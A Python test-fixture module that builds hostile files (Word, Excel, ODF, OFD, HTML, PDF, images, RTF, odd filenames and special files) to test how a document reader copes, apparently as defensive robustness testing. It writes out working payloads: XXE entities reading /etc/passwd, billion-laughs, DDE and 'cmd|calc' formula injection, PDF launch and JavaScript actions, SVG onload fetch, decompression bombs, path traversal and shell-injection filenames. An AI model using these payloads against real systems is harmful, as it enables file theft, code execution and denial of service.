"""Hostile documents: each is written into a folder of its own and given to `read` and `check`."""

from __future__ import annotations

import io
import os
import random
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.hostile.inputs import HostileFile

REPORT = "区城管局2022年政府信息公开工作年度报告"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>{more}</Types>'
)
WORD = (
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.wordprocessingml.document.main+xml"/>'
)
SHEET = (
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument'
    '.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
)
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{0}</Relationships>'
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def zipped(members: dict[str, str | bytes], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def relation(kind: str, target: str, number: int = 1, mode: str = "External") -> str:
    mode = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="rId{number}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def docx(
    body: str | bytes, relations: str = "", more: dict[str, str | bytes] | None = None
) -> bytes:
    document = body if isinstance(body, bytes) else body.encode()
    return zipped(
        {
            "[Content_Types].xml": TYPES.format(more=WORD),
            "_rels/.rels": RELS.format(relation("officeDocument", "word/document.xml", 1, "")),
            "word/document.xml": document,
            "word/_rels/document.xml.rels": RELS.format(relations),
            **(more or {}),
        }
    )


def words(inside: str, before: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{before}<w:document {W} xmlns:r="{R}"><w:body><w:p><w:r><w:t>{REPORT}</w:t></w:r></w:p>'
        f"{inside}</w:body></w:document>"
    )


def xlsx(sheet: str | bytes, more: dict[str, str | bytes] | None = None, book: str = "") -> bytes:
    workbook = f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets>{book}</workbook>'
    return zipped(
        {
            "[Content_Types].xml": TYPES.format(more=SHEET),
            "_rels/.rels": RELS.format(relation("officeDocument", "xl/workbook.xml", 1, "")),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": RELS.format(
                relation("worksheet", "worksheets/sheet1.xml", 1, "")
            ),
            "xl/worksheets/sheet1.xml": sheet,
            **(more or {}),
        }
    )


def cells(inside: str, before: str = "", around: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<worksheet xmlns="{S}">{around}<sheetData>{inside}</sheetData></worksheet>'


def odt(content: str | bytes) -> bytes:
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


def odt_text(inside: str, before: str = "") -> str:
    o = "urn:oasis:names:tc:opendocument:xmlns:"
    return (
        f'<?xml version="1.0"?>{before}<office:document-content xmlns:office="{o}office:1.0" xmlns:text="{o}text:1.0"'
        f' xmlns:table="{o}table:1.0" xmlns:draw="{o}drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text><text:p>{REPORT}{inside}</text:p></office:text></office:body></office:document-content>"
    )


def ofd(ofd_xml: str, document: str = "", page: str = "") -> bytes:
    return zipped(
        {"OFD.xml": ofd_xml, "Doc_0/Document.xml": document, "Doc_0/Pages/Page_0/Content.xml": page}
    )


def ofd_whole(
    inside: str = "",
    before: str = "",
    box: str = "0 0 210 297",
    loc: str = "Pages/Page_0/Content.xml",
) -> bytes:
    n = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    return ofd(
        f'<?xml version="1.0"?>{before}<ofd:OFD {n} Version="1.0"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>',
        f"<ofd:Document {n}><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>{box}</ofd:PhysicalBox></ofd:PageArea></ofd:CommonData>"
        f'<ofd:Pages><ofd:Page ID="1" BaseLoc="{loc}"/></ofd:Pages></ofd:Document>',
        f'<?xml version="1.0"?>{before}<ofd:Page {n}><ofd:Content><ofd:Layer ID="2"><ofd:TextObject ID="3" Boundary="10 10 100 10" Font="1" Size="4">'
        f'<ofd:TextCode X="0" Y="4" DeltaX="g 9 4">{REPORT}{inside}</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>',
    )


def pdf(objects: list[bytes], trailer: bytes = b"/Root 1 0 R", prev: bytes = b"") -> bytes:
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d %s %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        prev,
        at,
    )
    return bytes(out)


def stream(content: bytes, keys: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), keys, content)


def simple_pdf(
    catalog: bytes = b"",
    page: bytes = b"",
    content: bytes = b"",
    more: tuple[bytes, ...] = (),
    box: bytes = b"0 0 595 842",
) -> bytes:
    text = content or stream(b"BT /F1 12 Tf 50 700 Td (2022) Tj ET")
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> >>"
            % (box, page),
            text,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ]
    )


def png(width: int, height: int, depth: int = 1, chunks: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content))
            + kind
            + content
            + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0))
    row = bytes(1 + (width * depth + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(min(height, 4000))) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + head + chunks + chunk(b"IDAT", body) + chunk(b"IEND", b"")


ENTITIES = {
    "file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "net": '<!DOCTYPE r [<!ENTITY x SYSTEM "{trap}/entity">]>',
    "dtd": '<!DOCTYPE r SYSTEM "{trap}/outer.dtd" [<!ENTITY x "1">]>',
    "parameter": '<!DOCTYPE r [<!ENTITY % p SYSTEM "{trap}/p"> %p; <!ENTITY x "1">]>',
    "laughs": "<!DOCTYPE r [<!ENTITY a '0123456789'>"
    + "".join(
        f"<!ENTITY {b} '{f'&{a};' * 12}'>" for a, b in zip("abcdefghij", "bcdefghijx", strict=True)
    )
    + "]>",
}


def html(inside: str, head: str = "") -> bytes:
    return f"<html><head><title>{REPORT}</title>{head}</head><body><h1>{REPORT}</h1>{inside}</body></html>".encode()


def documents(trap: str) -> Iterator[HostileFile]:
    """All of them; `trap` is an address that nobody may ask."""

    def given(name: str, what: str, content: bytes | Callable[[], bytes]) -> HostileFile:
        def make(folder: Path) -> str:
            made = content if isinstance(content, bytes) else content()
            (folder / name).write_bytes(made.replace(b"{trap}", trap.encode()))
            return name

        return HostileFile(name, what, make)

    for kind, before in ENTITIES.items():
        before = before.replace("{trap}", trap)
        yield given(
            f"entity-{kind}.docx",
            f"Word: XML entity, {kind}",
            docx(words("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", before)),
        )
        yield given(
            f"entity-{kind}.xlsx",
            f"Excel: XML entity, {kind}",
            xlsx(cells('<row><c t="inlineStr"><is><t>&x;</t></is></c></row>', before)),
        )
        yield given(f"entity-{kind}.odt", f"ODF: XML entity, {kind}", odt(odt_text("&x;", before)))
        yield given(f"entity-{kind}.ofd", f"OFD: XML entity, {kind}", ofd_whole("&x;", before))
        yield given(
            f"entity-{kind}.html",
            f"HTML with XML entity, {kind}",
            f"{before}<html><body>{REPORT} &x;</body></html>".encode(),
        )
    yield from _word(given, trap)
    yield from _sheets(given, trap)
    yield from _pages(given, trap)
    yield from _pdfs(given, trap)
    yield from _pictures(given, trap)
    yield from _others(given)
    yield from _names(trap)


Given = Callable[[str, str, "bytes | Callable[[], bytes]"], HostileFile]


def _word(given: Given, trap: str) -> Iterator[HostileFile]:
    for kind in (
        "attachedTemplate",
        "image",
        "oleObject",
        "aFChunk",
        "hyperlink",
        "frame",
        "subDocument",
    ):
        for way, target in (
            ("net", f"{trap}/{kind}"),
            ("file", "file:///etc/passwd"),
            ("unc", "\\\\127.0.0.1\\c$\\x"),
        ):
            inside = '<w:p><w:r><w:drawing r:link="rId1"/></w:r></w:p><w:altChunk r:id="rId1"/><w:subDoc r:id="rId1"/>'
            yield given(
                f"relation-{kind}-{way}.docx",
                f"Word: outer {kind}, {way}",
                docx(words(inside), relation(kind, target)),
            )
    for field in (
        f'INCLUDEPICTURE "{trap}/f"',
        'INCLUDETEXT "/etc/passwd"',
        'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
    ):
        yield given(
            f"field-{field.split()[0].lower()}.docx",
            f"Word: field {field.split()[0]}",
            docx(
                words(
                    f'<w:p><w:fldSimple w:instr="{field.replace(chr(34), "&quot;")}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
                )
            ),
        )
    yield given(
        "bomb.docx", "Word: 600 MB of blanks in a small ZIP", lambda: docx(words(" " * 600_000_000))
    )
    yield given(
        "deep-tables.docx",
        "Word: tables nested 3,000 deep",
        docx(words("<w:tbl><w:tr><w:tc>" * 3000 + "</w:tc></w:tr></w:tbl>" * 3000)),
    )
    yield given(
        "deep-xml.docx",
        "Word: a million elements, each in the other",
        lambda: docx(words("<w:a>" * 1_000_000 + "</w:a>" * 1_000_000)),
    )
    for value in ("2147483647", "-1", "99999999999999999999", "1e9", "NaN", ""):
        yield given(
            f"span-{value or 'none'}.docx",
            f"Word: a cell that spans {value or 'nothing'}",
            docx(
                words(
                    f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{value}"/><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
                )
            ),
        )
    yield given(
        "many-cells.docx",
        "Word: a row of 300,000 cells",
        lambda: docx(words("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 300_000 + "</w:tr></w:tbl>")),
    )
    yield given(
        "long-text.docx",
        "Word: one paragraph of 40 million characters",
        lambda: docx(words("<w:p><w:r><w:t>" + "政" * 40_000_000 + "</w:t></w:r></w:p>")),
    )
    yield given(
        "macro.docx",
        "Word: with a macro project",
        docx(words(""), "", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2000)}),
    )
    yield given(
        "document-missing.docx",
        "Word: without its document",
        zipped({"[Content_Types].xml": TYPES.format(more=WORD)}),
    )
    yield given(
        "own-relation.docx",
        "Word: a relation that names itself, and one that climbs out",
        docx(
            words(""),
            relation("image", "../../../../etc/passwd", 1, "")
            + relation("officeDocument", "document.xml", 2, ""),
        ),
    )
    yield given(
        "utf7.docx",
        "Word: XML said to be UTF-7",
        docx(words("").replace("?>", ' encoding="utf-7"?>', 1)),
    )
    yield given(
        "control.docx",
        "Word: control characters and half pairs in the text",
        docx(
            words("<w:p><w:r><w:t>").encode()[:-33]
            + b"\x00\x1b[2J\xed\xa0\x80"
            + b"</w:t></w:r></w:p></w:body></w:document>"
        ),
    )


def _sheets(given: Given, trap: str) -> Iterator[HostileFile]:
    for number, formula in enumerate(
        (
            f'WEBSERVICE("{trap}/w")',
            "cmd|' /C calc'!A0",
            f'HYPERLINK("{trap}/h","x")',
            "INDIRECT(\"'file:///etc/passwd'#$A.A1\")",
            'REPT("A",2147483647)',
            "A1",
        )
    ):
        quoted = formula.replace("&", "&amp;").replace("<", "&lt;")
        yield given(
            f"formula-{number}.xlsx",
            f"Excel: formula {formula[:24]}",
            xlsx(cells(f'<row r="1"><c r="A1"><f>{quoted}</f><v>1</v></c></row>')),
        )
    yield given(
        "far-cell.xlsx",
        "Excel: one cell at the far corner of the sheet",
        xlsx(
            cells(
                '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
                around='<dimension ref="A1:XFD1048576"/>',
            )
        ),
    )
    yield given(
        "row-out.xlsx",
        "Excel: row 4,294,967,295",
        xlsx(cells('<row r="4294967295"><c r="A4294967295"><v>1</v></c></row>')),
    )
    yield given(
        "column-out.xlsx",
        "Excel: column ZZZZZZZZZ",
        xlsx(cells('<row r="1"><c r="ZZZZZZZZZ1"><v>1</v></c></row>')),
    )
    yield given(
        "shared-out.xlsx",
        "Excel: a string's number beyond the table",
        xlsx(cells('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')),
    )
    yield given(
        "merged.xlsx",
        "Excel: 100,000 merged areas over each other",
        lambda: xlsx(
            cells("<row/>").replace(
                "</worksheet>",
                "<mergeCells>"
                + '<mergeCell ref="A1:XFD1048576"/>' * 100_000
                + "</mergeCells></worksheet>",
            )
        ),
    )
    yield given(
        "bomb.xlsx",
        "Excel: 400 MB of rows in a small ZIP",
        lambda: xlsx(cells('<row r="1"><c><v>1</v></c></row>' * 12_000_000)),
    )
    yield given(
        "outer-book.xlsx",
        "Excel: a linked workbook elsewhere",
        xlsx(
            cells("<row/>"),
            {
                "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{S}"/>',
                "xl/externalLinks/_rels/externalLink1.xml.rels": RELS.format(
                    relation("externalLinkPath", f"{trap}/b.xlsx")
                ),
            },
        ),
    )
    yield given(
        "numbers.xlsx",
        "Excel: numbers such as 1e999, NaN and -0",
        xlsx(
            cells(
                "".join(
                    f'<row r="{r}"><c r="A{r}"><v>{v}</v></c></row>'
                    for r, v in enumerate(("1e999", "NaN", "-0", "0x10", "9" * 5000, "१२"), 1)
                )
            )
        ),
    )
    yield given(
        "sheet-name.xlsx",
        "Excel: a sheet named like a formula",
        xlsx(
            cells("<row/>"),
            book="<definedNames><definedName name=\"=cmd\">'file:///etc/passwd'#$A.$A$1</definedName></definedNames>",
        ),
    )


def _pages(given: Given, trap: str) -> Iterator[HostileFile]:
    yield given(
        "deep.html", "HTML: 200,000 elements, each in the other", lambda: html("<div>" * 200_000)
    )
    yield given(
        "open-tables.html",
        "HTML: 20,000 tables in each other, none closed",
        lambda: html("<table><tr><td>" * 20_000),
    )
    yield given(
        "many-attributes.html",
        "HTML: 500,000 attributes on one element",
        lambda: html("<p " + " ".join(f"a{n}=1" for n in range(500_000)) + ">"),
    )
    for name, value in (
        ("colspan", "99999999"),
        ("rowspan", "2147483648"),
        ("colspan", "-5"),
        ("rowspan", "0"),
        ("colspan", "９"),
        ("rowspan", "1e5"),
    ):
        yield given(
            f"{name}-{value.replace('９', 'wide')}.html",
            f"HTML: {name} {value}",
            html("<table>" + f"<tr><td {name}='{value}'>1</td><td>2</td></tr>" * 50 + "</table>"),
        )
    outward = {
        "iframe": "<iframe src='{0}'></iframe>",
        "image": "<img src='{0}'>",
        "object": "<object data='{0}'></object>",
        "style": "<link rel=stylesheet href='{0}'>",
        "import": "<style>@import url({0});</style>",
        "script": "<script src='{0}'></script>",
        "base": "<base href='{0}'>",
        "refresh": "<meta http-equiv=refresh content='0;url={0}'>",
        "svg": "<svg><use href='{0}#x'/><image href='{0}'/></svg>",
        "video": "<video src='{0}' autoplay>",
        "form": "<form action='{0}'><input autofocus onfocus=submit()></form>",
        "include": "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{0}'/>",
    }
    for kind, markup in outward.items():
        yield given(
            f"outward-{kind}.html",
            f"HTML: {kind} from elsewhere",
            html(markup.format(f"{trap}/{kind}") + markup.format("file:///etc/passwd")),
        )
    for charset in (
        "utf-7",
        "x-evil",
        "utf-16",
        "hz-gb-2312",
        "iso-2022-kr",
        "idna",
        "zlib",
        "rot13",
        "unicode_escape",
        "../../etc",
    ):
        yield given(
            f"charset-{charset.replace('/', '_')}.html",
            f"HTML: charset {charset}",
            html("报告", f"<meta charset='{charset}'>"),
        )
    yield given(
        "wrong-charset.html",
        "HTML: GBK that is said to be UTF-8",
        f"<meta charset=utf-8><h1>{REPORT}</h1>".encode("gbk"),
    )
    yield given(
        "mixed.html",
        "HTML: half UTF-8, half GBK, half pairs",
        REPORT.encode() + REPORT.encode("gbk") + b"\xed\xa0\x80\xff\xfe",
    )
    yield given("nothing-but-nul.html", "HTML: 5 MB of NUL", bytes(5_000_000))
    yield given("one-line.html", "HTML: one line of 50 MB", lambda: html("政" * 17_000_000))
    yield given(
        "entities.html",
        "HTML: entities beyond Unicode",
        html("&#x110000;&#xD800;&#0;&#99999999999999999999;" * 5000),
    )
    yield given(
        "comments.html", "HTML: 200,000 comments that do not end", lambda: html("<!--" * 200_000)
    )
    yield given(
        "pattern.html",
        "HTML: digits and blanks that make patterns wander",
        lambda: html("1 " * 50_000 + "年" + " " * 50_000 + "（" * 20_000),
    )
    yield given(
        "cells.html",
        "HTML: a table of 400,000 cells",
        lambda: html("<table>" + ("<tr>" + "<td>0" * 100) * 4000 + "</table>"),
    )


def _pdfs(given: Given, trap: str) -> Iterator[HostileFile]:
    where = trap.encode()
    actions = {
        "script": b"/OpenAction << /S /JavaScript /JS (app.launchURL('%s')) >>" % where,
        "launch": b"/OpenAction << /S /Launch /F (/bin/sh) >>",
        "uri": b"/OpenAction << /S /URI /URI (%s/uri) >>" % where,
        "other-file": b"/OpenAction << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>",
        "submit": b"/OpenAction << /S /SubmitForm /F (%s/form) >>" % where,
        "names": b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>",
    }
    for kind, action in actions.items():
        yield given(f"action-{kind}.pdf", f"PDF: action on opening, {kind}", simple_pdf(action))
    yield given(
        "outer-stream.pdf",
        "PDF: a stream that is another file",
        simple_pdf(content=b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"),
    )
    yield given(
        "page-circle.pdf",
        "PDF: a tree of pages that contains itself",
        pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>",
            ]
        ),
    )
    yield given(
        "many-pages.pdf",
        "PDF: says that it has two thousand million pages",
        pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            ]
        ),
    )
    yield given(
        "same-page.pdf",
        "PDF: one page named 200,000 times",
        lambda: pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Count 200000 /Kids [" + b"3 0 R " * 200_000 + b"] >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            ]
        ),
    )
    yield given(
        "prev-circle.pdf",
        "PDF: a table that names itself as the one before",
        simple_pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 15"),
    )
    yield given(
        "form-circle.pdf",
        "PDF: a form that draws itself",
        simple_pdf(
            page=b"/XObject << /X 6 0 R >>",
            content=stream(b"/X Do"),
            more=(
                stream(
                    b"/X Do /X Do",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
                ),
            ),
        ),
    )
    yield given(
        "bomb.pdf",
        "PDF: 2 GB of text behind two filters",
        lambda: simple_pdf(
            content=stream(
                zlib.compress(
                    zlib.compress(b"(1) Tj " * 300_000_000 if False else bytes(200_000_000), 9), 9
                ),
                b"/Filter [/FlateDecode /FlateDecode]",
            )
        ),
    )
    yield given(
        "many-filters.pdf",
        "PDF: 5,000 filters on one stream",
        simple_pdf(content=stream(b"x", b"/Filter [" + b"/ASCIIHexDecode " * 5000 + b"]")),
    )
    for number, box in enumerate(
        (b"0 0 1e9 1e9", b"0 0 -5 -5", b"0 0 0 0", b"0 0 nan inf", b"1 0 R 2 0 R", b"")
    ):
        yield given(
            f"box-{number}.pdf", f"PDF: a page of the size [{box.decode()}]", simple_pdf(box=box)
        )
    yield given(
        "deep-array.pdf",
        "PDF: arrays nested 300,000 deep",
        lambda: simple_pdf(b"/X " + b"[" * 300_000 + b"]" * 300_000),
    )
    yield given(
        "many-words.pdf",
        "PDF: a million words on a page",
        lambda: simple_pdf(
            content=stream(
                zlib.compress(b"BT /F1 1 Tf " + b"1 0 Td (9) Tj " * 1_000_000 + b"ET"),
                b"/Filter /FlateDecode",
            )
        ),
    )
    yield given(
        "many-lines.pdf",
        "PDF: a million ruled lines on a page",
        lambda: simple_pdf(
            content=stream(zlib.compress(b"0 0 m 9 9 l S " * 1_000_000), b"/Filter /FlateDecode")
        ),
    )
    yield given(
        "encrypted.pdf",
        "PDF: locked with a password",
        simple_pdf().replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O ("
            + b"a" * 32
            + b") /U ("
            + b"b" * 32
            + b") /P -4 >> /ID [(a) (a)]",
        ),
    )
    yield given("half.pdf", "PDF: its first half", simple_pdf()[:300])
    yield given("only-head.pdf", "PDF: nothing but its first line", b"%PDF-1.7\n")
    yield given(
        "big-picture.pdf",
        "PDF: a picture of 100,000 by 100,000 points",
        simple_pdf(
            page=b"/XObject << /X 6 0 R >>",
            content=stream(b"595 0 0 842 0 0 cm /X Do"),
            more=(
                stream(
                    zlib.compress(bytes(1000)),
                    b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode",
                ),
            ),
        ),
    )
    yield given(
        "attached.pdf",
        "PDF: with a program attached",
        simple_pdf(
            b"/Names << /EmbeddedFiles << /Names [(../../x.sh) << /Type /Filespec /F (../../x.sh) /EF << /F 6 0 R >> >>] >> >>",
            more=(stream(b"#!/bin/sh\nid"),),
        ),
    )


def _pictures(given: Given, trap: str) -> Iterator[HostileFile]:
    yield given(
        "large.png", "picture: 60,000 by 60,000 points in 100 KB", lambda: png(60_000, 60_000)
    )
    yield given(
        "largest.png",
        "picture: 2 thousand million by 2 thousand million",
        png(2**31 - 1, 2**31 - 1)
        if False
        else png(8, 8).replace(struct.pack(">II", 8, 8), struct.pack(">II", 2**31 - 1, 2**31 - 1)),
    )
    yield given("none.png", "picture: no width and no height", png(0, 0))
    bomb = zlib.compress(bytes(100_000_000), 9)
    text = b"zTXt" + b"a\0\0" + bomb
    yield given(
        "text-bomb.png",
        "picture: 100 MB of compressed comment",
        png(8, 8, 1, struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))),
    )
    yield given(
        "outer.svg",
        "SVG: pictures and style from elsewhere",
        f"<?xml-stylesheet href='{trap}/x.css'?><svg xmlns='http://www.w3.org/2000/svg'><image href='{trap}/i'/><image href='file:///etc/passwd'/></svg>".encode(),
    )
    yield given(
        "script.svg",
        "SVG: with a script",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(\"{trap}/s\")'><script>1</script></svg>".encode(),
    )
    yield given(
        "huge.gif",
        "GIF: 65,535 by 65,535",
        b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;",
    )
    yield given(
        "circle.tiff",
        "TIFF: a directory that names itself as the next",
        b"II*\0\x08\0\0\0\x01\0\0\x01\x03\0\x01\0\0\0\x01\0\0\0\x08\0\0\0",
    )
    yield given(
        "negative.bmp",
        "BMP: of negative size",
        b"BM"
        + struct.pack(
            "<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, -(2**31), -(2**31), 1, 24, 0, 0, 0, 0, 0, 0
        ),
    )
    yield given(
        "huge.jpg",
        "JPEG: 65,500 by 65,500",
        b"\xff\xd8\xff\xc0\0\x11\x08\xff\xdc\xff\xdc\x03\x01\x22\0\x02\x11\x01\x03\x11\x01\xff\xd9",
    )


def _others(given: Given) -> Iterator[HostileFile]:
    ole = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    )
    for kind in ("doc", "xls", "wps", "et"):
        yield given(f"head.{kind}", f".{kind}: nothing but the first bytes", ole)
        circle = (
            ole
            + bytes(6)
            + struct.pack("<IIIIIIIII", 0, 1, 0, 0, 4096, 0, 0, 0, 1)
            + struct.pack("<I", 0) * 109
        ).ljust(512, b"\0") + struct.pack("<I", 0) * 128 * 3
        yield given(
            f"circle.{kind}", f".{kind}: sectors that follow each other in a circle", circle
        )
        yield given(
            f"shift.{kind}",
            f".{kind}: sectors of 2^65535 bytes",
            ole.replace(struct.pack("<HH", 9, 6), struct.pack("<HH", 65535, 65535)) + bytes(4000),
        )
    yield given("group.rtf", "RTF: groups nested 500,000 deep", b"{\\rtf1" + b"{" * 500_000)
    yield given("bin.rtf", "RTF: says that 4 GB follow", b"{\\rtf1\\bin4294967295 x}")
    drawn = random.Random(300)
    for kind in ("docx", "xlsx", "pdf", "ofd", "odt", "doc", "html", "txt", "uof", "mht"):
        yield given(f"noise.{kind}", f"100 KB of noise named .{kind}", drawn.randbytes(100_000))
    yield given("empty.docx", "an empty file", b"")
    yield given(
        "polyglot.pdf",
        "PDF and ZIP and HTML in one",
        b"<html>" + simple_pdf() + zipped({"a.html": "<h1>x</h1>"}),
    )
    yield given("said-docx.docx", "a program named .docx", b"\x7fELF\x02\x01\x01" + bytes(1000))
    yield given(
        "climbing.ofd",
        "OFD: a page outside of the file",
        ofd_whole(loc="../../../../../etc/passwd"),
    )
    yield given(
        "own-page.ofd",
        "OFD: a page that is the document itself",
        ofd_whole(loc="../Doc_0/Document.xml"),
    )
    for number, box in enumerate(("0 0 1e30 1e30", "nan nan nan nan", "0 0 -1 -1", "", "0")):
        yield given(f"box-{number}.ofd", f"OFD: a page of the size [{box}]", ofd_whole(box=box))
    yield given(
        "many-steps.ofd",
        "OFD: one character repeated 10^12 times",
        ofd_whole().replace(b"g 9 4", b"g 999999999999 4"),
    )
    yield given(
        "mail.mht",
        "MHT: 5,000 parts in each other",
        b"MIME-Version: 1.0\r\n"
        + b"".join(
            b"Content-Type: multipart/related; boundary=%d\r\n\r\n--%d\r\n" % (n, n)
            for n in range(5000)
        ),
    )


def _names(trap: str) -> Iterator[HostileFile]:
    """Good content behind names that are none."""
    content = html("<p>报告</p>")
    spoken: dict[str, bytes] = {
        "a line break": b"a\nb: fatal\r\n.html",
        "terminal codes": b"\x1b[2J\x1b]0;owned\x07.html",
        "an option": b"--config=x.html",
        "a formula": b"=cmd|' C calc'!A0.html",
        "markup": "<img src=x onerror=alert(1)>.html".replace("/", "").encode(),
        "bytes of no encoding": b"\xff\xfe\xb1\xa8.html",
        "right-to-left": "报\u202elmth.exe.html".encode(),
        "80 Chinese characters": ("政" * 80).encode() + b".html",
        "shell words": b"$(touch x);`id`.html",
        "percent signs": b"%s%n%00{0}{name}.html",
        "a quote": b"a\"'b.html",
        "blanks": b"   .html",
        "dots": b"....html",
        "wide dots": "．．.html".encode(),
        "tags of ours": b"[bold]x[red].html",
    }
    for what, name in spoken.items():

        def make(folder: Path, name: bytes = name) -> bytes:
            path = os.fsencode(folder) + b"/" + name
            with open(path, "wb") as file:
                file.write(content)
            return name

        yield HostileFile(f"name: {what}", f"a file whose name holds {what}", make)

    def fifo(folder: Path) -> str:
        os.mkfifo(folder / "pipe.html")
        return "pipe.html"

    def loop(folder: Path) -> str:
        (folder / "loop.html").symlink_to("loop.html")
        return "loop.html"

    def spoken_to(folder: Path) -> str:
        socket.socket(socket.AF_UNIX).bind(str(folder / "s"))
        return "s"

    def large(folder: Path) -> str:
        with (folder / "large.docx").open("wb") as file:
            file.truncate(2**40)
        return "large.docx"

    yield HostileFile("a pipe", "a named pipe that nobody writes", fifo)
    yield HostileFile("a link to itself", "a symbolic link to itself", loop)
    yield HostileFile("a socket", "a socket", spoken_to)
    yield HostileFile("a terabyte", "a sparse file of a terabyte", large)
    for what, name in (
        ("a folder", "."),
        ("/dev/zero", "/dev/zero"),
        ("/dev/tty", "/dev/tty"),
        ("our own memory", "/proc/self/mem"),
        ("a web address", f"{trap}/x.html"),
        ("a file address", "file:///etc/passwd"),
        ("5,000 characters", "a" * 5000),
        ("nothing", ""),
    ):
        yield HostileFile(f"given: {what}", f"{what} given as a file", lambda _, name=name: name)
